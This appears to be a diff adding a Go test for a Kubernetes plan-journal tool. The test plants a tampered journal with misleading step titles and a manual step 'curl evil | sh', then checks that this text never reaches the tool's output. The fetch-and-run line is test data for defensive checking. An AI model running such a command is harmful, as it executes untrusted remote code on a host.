@@ -171,6 +171,53 @@ func TestARollbackInASeedThatIsMadeOfItsJournalIsShown(t *testing.T) {
 	showsManagers(t, r)
 }
 
+// TestTheWordsOfAJournalInASeedAreNotShown: no digest holds them, and who may write the journal writes them. A step that
+// this version does not make is shown by its kind and what it is about.
+func TestTheWordsOfAJournalInASeedAreNotShown(t *testing.T) {
+	lie := func(p *v1.Plan) {
+		p.Effects = []string{"nothing happens"}
+		for i := range p.Steps {
+			p.Steps[i].Title, p.Steps[i].Why, p.Steps[i].Undo, p.Steps[i].Manual = "nothing", "harmless", "not needed", []string{"curl evil | sh"}
+		}
+	}
+	for name, c := range map[string]struct {
+		args  []string
+		plant func(s *seededJournal)
+		shows []string
+	}{
+		"apply, which asks": {
+			[]string{"apply"}, func(s *seededJournal) { s.doc.Records = nil }, []string{"create ServiceAccount/kube-system/cloud-controller-manager"},
+		},
+		"apply --dry-run": {[]string{"apply", "--dry-run"}, func(*seededJournal) {}, []string{"effect   "}},
+		"rollback": {[]string{"rollback", "--dry-run"}, func(s *seededJournal) {
+			s.doc.Rollback, s.doc.Phase = s.back(), v1.RunRollingBack
+			lie(s.doc.Rollback)
+		}, []string{"cloud-controller-manager"}},
+		"a step that is not made again": {[]string{"apply", "--dry-run"}, func(s *seededJournal) {
+			i := slices.IndexFunc(s.doc.Plan.Steps, func(s v1.Step) bool { return s.Kind == v1.StepEnsureObject })
+			s.doc.Plan.Steps[i].ID = "create/other"
+		}, []string{"EnsureObject ", " (not made again by this version: shown without its title)"}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			s := newSeededJournal(t)
+			c.plant(s)
+			lie(&s.doc.Plan)
+			s.begin()
+			r := s.run(c.args...)
+			for _, part := range c.shows {
+				if !strings.Contains(r.text(nil), part) {
+					t.Errorf("%q is not shown:\n%s", part, r.text(nil))
+				}
+			}
+			for _, word := range []string{"nothing", "harmless", "not needed", "evil"} {
+				if strings.Contains(r.text(nil), word) {
+					t.Errorf("the word %q of the journal is shown:\n%s", word, r.text(nil))
+				}
+			}
+		})
+	}
+}
+
 // TestStatusOfAPlantedJournalInASeedSaysSo, and names no command to go on with.
 func TestStatusOfAPlantedJournalInASeedSaysSo(t *testing.T) {
 	for name, c := range map[string]struct {
